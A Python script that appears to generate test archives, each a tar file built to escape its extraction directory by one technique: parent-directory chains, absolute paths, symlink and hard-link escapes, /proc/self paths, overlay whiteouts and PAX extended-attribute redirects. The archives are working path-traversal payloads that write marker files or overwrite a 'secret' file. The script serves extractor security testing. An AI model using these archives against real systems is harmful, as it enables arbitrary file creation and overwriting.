# hostile_archives.py DIRECTORY BAIT: tars that try to leave the directory they are extracted in, one shape each.
import io
import os
import sys
import tarfile

directory, bait = sys.argv[1:]
up = "../" * 20
absolute_up = up + bait.lstrip("/")


def entry(name, kind=tarfile.REGTYPE, link="", data=b"reached\n", mode=0o777, device=(0, 0)):
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, mode
    info.devmajor, info.devminor = device
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    return info, data


link = lambda name, target: entry(name, tarfile.SYMTYPE, target)  # noqa: E731
hard = lambda name, target: entry(name, tarfile.LNKTYPE, target)  # noqa: E731
folder = lambda name, mode=0o777: entry(name, tarfile.DIRTYPE, mode=mode)  # noqa: E731
shapes = {
    "up": [entry(absolute_up + "/reached")],
    "up-in-the-middle": [entry("a/" + absolute_up + "/reached")],
    "absolute": [entry(bait + "/reached")],
    "up-folder": [folder(absolute_up + "/reached")],
    "through-link": [link("l", bait), entry("l/reached")],
    "through-relative-link": [link("l", absolute_up), entry("l/reached")],
    "through-two-links": [link("l", "k"), link("k", bait), entry("l/reached")],
    "through-link-to-up": [link("l", ".."), entry("l/" + absolute_up + "/reached")],
    "through-proc": [link("l", "/proc/self/cwd"), entry("l/reached"), link("k", "/proc/self/root" + bait), entry("k/reached")],
    "over-link": [link("l", bait + "/reached"), entry("l")],
    "over-link-to-secret": [link("l", bait + "/secret"), entry("l", data=b"overwritten\n")],
    "folder-over-link": [link("l", bait), folder("l", 0o755), entry("l/reached")],
    "folder-becomes-link": [folder("l"), link("l", bait), entry("l/reached")],
    "mode-through-link": [link("l", bait + "/secret"), folder("l/.", 0o777)],
    "hard-link-up": [hard("h", absolute_up + "/secret")],
    "hard-link-absolute": [hard("h", bait + "/secret")],
    "hard-link-through-link": [link("l", bait), hard("h", "l/secret"), entry("h", data=b"overwritten\n")],
    "hard-link-to-link": [link("l", bait + "/secret"), hard("h", "l"), entry("h", data=b"overwritten\n")],
    "hard-link-relative": [hard("h", "secret"), hard("k", "bait/secret"), hard("m", "./c/file")],
    "whiteout-through-link": [link("l", bait), entry("l/.wh.secret", data=b"")],
    "whiteout-up": [entry(".wh.." , data=b""), entry("a/.wh...", data=b"")],
    "opaque-through-link": [link("l", bait), entry("l/.wh..wh..opq", data=b"")],
    "whiteout-absolute": [entry(bait + "/.wh.secret", data=b"")],
    "root-is-a-link": [link(".", bait), entry("reached")],
    "root-is-a-link-with-slash": [link("/", bait), entry("reached")],
    "root-is-a-file": [entry("./", data=b"")],
    "empty-name": [entry(""), link("", bait), entry("/reached")],
    "dots": [entry(".."), folder("../.."), link("..", bait)],
    "overlay-whiteout": [entry("c", tarfile.CHRTYPE, device=(0, 0)), entry("etc", tarfile.CHRTYPE, device=(0, 0))],
    "fifo-then-file": [entry("f", tarfile.FIFOTYPE), entry("f")],
}
for name, entries in shapes.items():
    with tarfile.open(os.path.join(directory, name + ".tar"), "w", format=tarfile.GNU_FORMAT) as archive:
        for info, data in entries:
            archive.addfile(info, io.BytesIO(data) if info.type == tarfile.REGTYPE else None)
pax = tarfile.TarInfo("p")
pax.pax_headers = {"path": absolute_up + "/reached", "SCHILY.xattr.trusted.overlay.opaque": "y",
                   "SCHILY.xattr.trusted.overlay.redirect": "/etc", "SCHILY.xattr.user.overlay.opaque": "y",
                   "SCHILY.xattr.security.capability": "x" * 20}
with tarfile.open(os.path.join(directory, "pax.tar"), "w", format=tarfile.PAX_FORMAT) as archive:
    archive.addfile(pax)
    redirect = tarfile.TarInfo("etc")
    redirect.type = tarfile.DIRTYPE
    redirect.pax_headers = {key: value for key, value in pax.pax_headers.items() if key != "path"}
    archive.addfile(redirect)
